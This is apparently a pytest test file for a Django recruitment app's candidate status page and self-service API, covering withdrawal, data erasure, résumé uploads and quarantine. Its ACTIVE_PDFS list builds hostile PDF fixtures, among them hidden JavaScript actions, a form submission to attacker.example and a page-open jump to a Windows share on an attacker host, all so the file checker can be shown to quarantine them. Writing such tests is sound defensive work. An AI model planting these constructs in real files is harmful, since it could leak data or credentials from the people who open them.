"""The candidate's status page and self-service API: stage, history, withdraw, erase."""

import re
import zlib

import pytest

from recruitment.models import Application, Candidate, ResumeVersion, Review

from .conftest import (
    application_data,
    document_xml,
    docx_bytes,
    pdf_bytes,
    pdf_stream,
    stored_files,
    upload,
)

pytestmark = pytest.mark.django_db

API = "/api/v1/campaigns/liangjiang-live/applications/"


@pytest.fixture
def submitted(client, campaign, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(API, application_data(job="battery-engineer", city="Chongqing"))
    assert response.status_code == 201
    return Application.objects.get(reference=response.json()["reference"])


def test_the_status_page_shows_the_reference_stage_and_history(client, submitted):
    response = client.get(f"/en/applications/{submitted.status_token}/")

    html = response.content.decode()
    assert response.status_code == 200
    assert submitted.reference in html
    assert "Received" in html
    assert "Battery engineer" in html
    assert "no-store" in response["Cache-Control"]
    assert response["Referrer-Policy"] == "strict-origin"  # the origin only, never the path
    assert "noindex" in html


def test_an_unknown_token_is_404(client, db):
    assert client.get("/en/applications/not-a-real-token-at-all-123/").status_code == 404


def test_the_status_api_gives_the_stage_and_history(client, submitted):
    response = client.get(f"/api/v1/applications/{submitted.status_token}/")

    body = response.json()
    assert response.status_code == 200
    assert body["reference"] == submitted.reference
    assert body["stage"] == "received"
    assert [item["stage"] for item in body["history"]] == ["received"]
    assert body["resume_received"] is True
    assert "email" not in body and "id" not in body


def test_the_status_api_cannot_be_listed(client, submitted):
    assert client.get("/api/v1/applications/").status_code in (404, 405)


@pytest.mark.parametrize(
    ("language", "asks", "confirms", "done"),
    [
        ("en", "Withdraw your application?", "Yes, withdraw my application", "has been withdrawn"),
        ("zh-hans", "确定撤回申请吗？", "确定撤回", "您的申请已撤回"),
    ],
)
def test_withdrawing_asks_for_confirmation_then_says_it_worked(
    client, submitted, language, asks, confirms, done
):
    url = f"/{language}/applications/{submitted.status_token}/"

    asked = client.post(url, {"action": "withdraw"})

    assert asked.status_code == 200
    html = asked.content.decode()
    assert asks in html and confirms in html
    assert 'name="confirm_withdraw" value="1"' in html
    assert f'href="{url}"' in html  # "keep my application" goes back
    assert "no-store" in asked["Cache-Control"]
    submitted.refresh_from_db()
    assert submitted.stage == "received"

    response = client.post(url, {"action": "withdraw", "confirm_withdraw": "1"})

    assert response.status_code == 302
    submitted.refresh_from_db()
    assert submitted.stage == "withdrawn"
    assert [change.to_stage for change in submitted.stage_history] == ["received", "withdrawn"]
    page = client.get(url).content.decode()
    assert done in page


def test_withdraw_and_erase_are_styled_apart_as_destructive(client, submitted):
    html = client.get(f"/en/applications/{submitted.status_token}/").content.decode()

    assert re.search(r'class="button-danger">Withdraw my application<', html)
    assert re.search(r'class="button-danger">Erase my data<', html)
    assert re.search(r'<button type="submit">Upload<', html)  # the normal action stays normal


def test_erasing_needs_a_confirmation(client, submitted):
    response = client.post(f"/en/applications/{submitted.status_token}/", {"action": "erase"})

    assert response.status_code == 400
    assert "Tick the box" in response.content.decode()
    submitted.refresh_from_db()
    assert not submitted.is_erased


def test_erasing_removes_the_file_and_personal_data_and_keeps_the_count(
    client, campaign, submitted, isolated_storage, django_capture_on_commit_callbacks
):
    assert len(stored_files(isolated_storage)) == 1

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/en/applications/{submitted.status_token}/",
            {"action": "erase", "confirm_erase": "1"},
        )

    assert response.status_code == 302
    application = Application.objects.get(pk=submitted.pk)
    assert stored_files(isolated_storage) == []
    assert application.is_erased and application.stage == "withdrawn"
    for name in ("full_name", "email", "phone", "city", "extracted_text", "resume_original_name"):
        assert getattr(application, name) == "", name
    assert not application.resume and application.candidate is None
    assert Candidate.objects.count() == 0
    assert ResumeVersion.objects.count() == 0
    # The anonymous record remains: the campaign still counts the application.
    assert Application.objects.filter(campaign=campaign).count() == 1
    assert client.get("/campaigns/liangjiang-live/live.json").json()["applications_received"] == 1
    page = client.get(f"/en/applications/{submitted.status_token}/").content.decode()
    assert "have been erased" in page
    assert "Li Na" not in page


def test_delete_on_the_status_api_withdraws_and_erases(
    client, submitted, isolated_storage, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.delete(f"/api/v1/applications/{submitted.status_token}/")

    assert response.status_code == 200
    assert response.json()["erased"] is True
    assert response.json()["stage"] == "withdrawn"
    assert stored_files(isolated_storage) == []
    assert Application.objects.get().email == ""


def test_erasure_also_removes_what_staff_wrote_about_the_candidate(
    client, submitted, recruiter, django_capture_on_commit_callbacks
):
    Review.objects.create(
        application=submitted, reviewer=recruiter, rating=4, note="Spoke with her father"
    )
    submitted.stage_changes.update(note="Called her on 138...")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.delete(f"/api/v1/applications/{submitted.status_token}/")

    assert response.status_code == 200
    assert not Review.objects.filter(application=submitted).exists()
    assert not submitted.stage_changes.exclude(note__in=["", "erased by the candidate"]).exists()


def test_applying_again_after_erasure_starts_a_new_application(client, submitted):
    client.delete(f"/api/v1/applications/{submitted.status_token}/")

    response = client.post(API, application_data())

    assert response.status_code == 201
    assert response.json()["reference"] != submitted.reference


def test_a_contact_only_candidate_adds_the_resume_later(
    client, campaign, isolated_storage, django_capture_on_commit_callbacks
):
    campaign.allow_contact_only = True
    campaign.save()
    response = client.post(API, application_data(resume=None))
    application = Application.objects.get(reference=response.json()["reference"])
    page = client.get(f"/en/applications/{application.status_token}/").content.decode()
    assert "no résumé for this application yet" in page

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/en/applications/{application.status_token}/",
            {"action": "upload", "resume": upload("later.docx", docx_bytes())},
        )

    assert response.status_code == 302
    application.refresh_from_db()
    assert application.resume_original_name == "later.docx"
    assert "Li Na software engineer" in application.extracted_text
    assert len(stored_files(isolated_storage)) == 1


def test_a_hostile_file_added_later_is_refused(client, submitted, isolated_storage):
    response = client.post(
        f"/en/applications/{submitted.status_token}/",
        {"action": "upload", "resume": upload("x.pdf", b"\x89PNG\r\n")},
    )

    assert response.status_code == 400
    assert "Only PDF, DOC or DOCX" in response.content.decode()
    assert len(stored_files(isolated_storage)) == 1


def test_the_resume_text_is_extracted_after_the_commit(submitted):
    assert "Zhang Wei" in submitted.extracted_text
    assert not submitted.quarantined


def test_a_file_that_fails_the_deeper_check_is_quarantined_and_the_candidate_asked_again(
    client, campaign, django_capture_on_commit_callbacks
):
    # Passes the cheap checks (no DTD, a zip with both parts) but its XML is broken.
    broken = docx_bytes(document=document_xml()[:-20])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(API, application_data(resume=upload("cv.docx", broken)))
    application = Application.objects.get(reference=response.json()["reference"])

    assert application.quarantined
    page = client.get(f"/en/applications/{application.status_token}/").content.decode()
    assert "Please upload a new file" in page
    assert "The Word document could not be read." in page
    assert client.get(f"/api/v1/applications/{application.status_token}/").json()["quarantined"]


def test_a_quarantined_resume_replaced_from_the_status_page_is_deleted_not_kept(
    client, campaign, isolated_storage, django_capture_on_commit_callbacks
):
    broken = docx_bytes(document=document_xml()[:-20])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(API, application_data(resume=upload("cv.docx", broken)))
    application = Application.objects.get(reference=response.json()["reference"])
    assert application.quarantined

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/en/applications/{application.status_token}/",
            {"action": "upload", "resume": upload("fixed.pdf", pdf_bytes())},
        )

    assert response.status_code == 302
    application.refresh_from_db()
    assert not application.quarantined
    assert application.resume_original_name == "fixed.pdf"
    # Nobody may open the quarantined file, so it is not kept as a version.
    assert ResumeVersion.objects.count() == 0
    assert [path.name for path in stored_files(isolated_storage)] == [
        application.resume.name.rsplit("/", 1)[-1]
    ]


def _with_an_unlisted_object_stream(data):
    """`data` with an object stream holding a script that no cross-reference table lists."""
    packed = zlib.compress(b"10 0 << /S /JavaScript /JS (app.alert(1)) >>")
    hidden = (
        b"9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )
    at = data.rindex(b"\nxref\n") + 1
    startxref = int(re.search(rb"startxref\n(\d+)", data).group(1))
    return (data[:at] + hidden + data[at:]).replace(
        b"startxref\n%d" % startxref, b"startxref\n%d" % (startxref + len(hidden))
    )


LINK = b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /A %s >>"
SCRIPT = b"<< /S /JavaScript /JS (app.alert(document.URL)) >>"
# None of these has a keyword the request's triage looks for in the file's bytes.
ACTIVE_PDFS = [
    pytest.param(
        pdf_bytes(extra_catalog=b"/AA << /WC 6 0 R >> ", extra_objects=[b"<< /S /URI >>"]),
        "automatic actions or scripts",
        id="additional-actions",
    ),
    pytest.param(
        b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF\n", "could not be read", id="no-document-inside"
    ),
    pytest.param(
        pdf_bytes(
            extra_page=b"/AA << /O 6 0 R >> /Annots [7 0 R] ",
            extra_objects=[SCRIPT, LINK % SCRIPT],
            object_stream=True,
        ),
        "automatic actions or scripts",
        id="page-open-and-link-scripts-in-an-object-stream",
    ),
    pytest.param(
        pdf_bytes(
            extra_page=b"/Annots [6 0 R] ",
            extra_objects=[LINK % b"<< /S /JavaScript\x00/JS\x00(app.alert(1)) >>"],
            object_stream=True,
        ),
        "automatic actions or scripts",
        id="nul-after-javascript-in-an-object-stream",
    ),
    pytest.param(
        pdf_bytes(
            extra_catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> ",
            extra_objects=[b"<< /S /SubmitForm /F (https://attacker.example/) >>"],
            object_stream=True,
        ),
        "automatic actions or scripts",
        id="open-action-chaining-a-form-submission-in-an-object-stream",
    ),
    pytest.param(
        _with_an_unlisted_object_stream(pdf_bytes()),
        "automatic actions or scripts",
        id="script-in-an-unlisted-object-stream",
    ),
    pytest.param(
        pdf_bytes(
            # PDF escapes a backslash as two: the file is \\attacker\share\cv.pdf.
            extra_page=b"/AA << /O << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\cv.pdf) "
            b"/D [0 /Fit] >> >> "
        ),
        "automatic actions or scripts",
        id="page-open-goto-a-windows-share",
    ),
    pytest.param(
        pdf_bytes(
            extra_page=b"/Annots [6 0 R] ",
            extra_objects=[LINK % b"<< /S /GoToE /T << /R /C /N (cv) >> >>"],
        ),
        "automatic actions or scripts",
        id="link-into-an-attachment",
    ),
    pytest.param(
        pdf_bytes(
            extra_catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >> ",
            extra_objects=[
                pdf_stream(
                    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script '
                    b'contentType="application/x-javascript">app.alert(1)</script>'
                    b"</template></xdp:xdp>"
                )
            ],
        ),
        "automatic actions or scripts",
        id="xfa-form-with-a-compressed-script",
    ),
    pytest.param(
        pdf_bytes(
            extra_catalog=b"/Names << /EmbeddedFiles << /Names [(cv.exe) 6 0 R] >> >> ",
            extra_objects=[b"<< /Type /Filespec /F (cv.exe) >>"],
            object_stream=True,
        ),
        "embedded files",
        id="attachment-in-an-object-stream",
    ),
    pytest.param(
        pdf_bytes(
            extra_page=b"/Annots [6 0 R] ",
            extra_objects=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"],
        ),
        "automatic actions or scripts",
        id="rich-media",
    ),
]


@pytest.mark.parametrize("data, reason", ACTIVE_PDFS)
def test_a_pdf_that_fails_the_deeper_check_is_quarantined(
    client, campaign, data, reason, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(API, application_data(resume=upload("cv.pdf", data)))

    assert response.status_code == 201
    application = Application.objects.get()
    assert application.quarantined
    assert reason in application.quarantine_reason


def test_a_script_hidden_in_an_object_stream_never_reaches_staff(
    client, campaign, recruiter, django_capture_on_commit_callbacks
):
    data = pdf_bytes(extra_page=b"/AA << /O 6 0 R >> ", extra_objects=[SCRIPT], object_stream=True)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(API, application_data(resume=upload("cv.pdf", data)))
    application = Application.objects.get(reference=response.json()["reference"])
    client.force_login(recruiter)

    page = client.get(f"/admin/recruitment/application/{application.pk}/change/")
    download = client.get(f"/staff/applications/{application.pk}/resume/?inline=1")

    assert application.quarantined
    assert "automatic actions or scripts" in application.quarantine_reason
    assert page.status_code == 200 and "<iframe" not in page.content.decode()
    assert download.status_code == 404


@pytest.mark.parametrize(
    "part, xml",
    [
        ("word/styles.xml", '<?xml version="1.0"?><styles><style></styles>'),
        ("word/settings.xml", '<?xml version="1.0"?><settings/><!DOCTYPE settings>'),
    ],
    ids=["styles-not-well-formed", "dtd-after-the-root"],
)
def test_a_word_file_with_any_part_that_does_not_parse_is_quarantined(
    client, campaign, part, xml, django_capture_on_commit_callbacks
):
    data = docx_bytes(extra={part: xml})

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(API, application_data(resume=upload("cv.docx", data)))

    assert response.status_code == 201
    application = Application.objects.get()
    assert application.quarantined
    assert application.quarantine_reason == "The Word document could not be read."


def test_the_status_page_uses_a_bounded_number_of_queries(
    client, submitted, django_assert_max_num_queries
):
    with django_assert_max_num_queries(3):
        assert client.get(f"/en/applications/{submitted.status_token}/").status_code == 200
    with django_assert_max_num_queries(3):
        assert client.get(f"/api/v1/applications/{submitted.status_token}/").status_code == 200


def test_uploads_from_the_status_page_count_against_the_rate_limit(client, submitted, settings):
    settings.INTAKE_RATE_LIMIT = 1  # the submission itself ran with the limit off
    url = f"/en/applications/{submitted.status_token}/"
    first = client.post(url, {"action": "upload", "resume": upload("a.pdf", pdf_bytes())})
    second = client.post(url, {"action": "upload", "resume": upload("b.pdf", pdf_bytes())})

    assert (first.status_code, second.status_code) == (302, 429)
    assert second["Retry-After"]
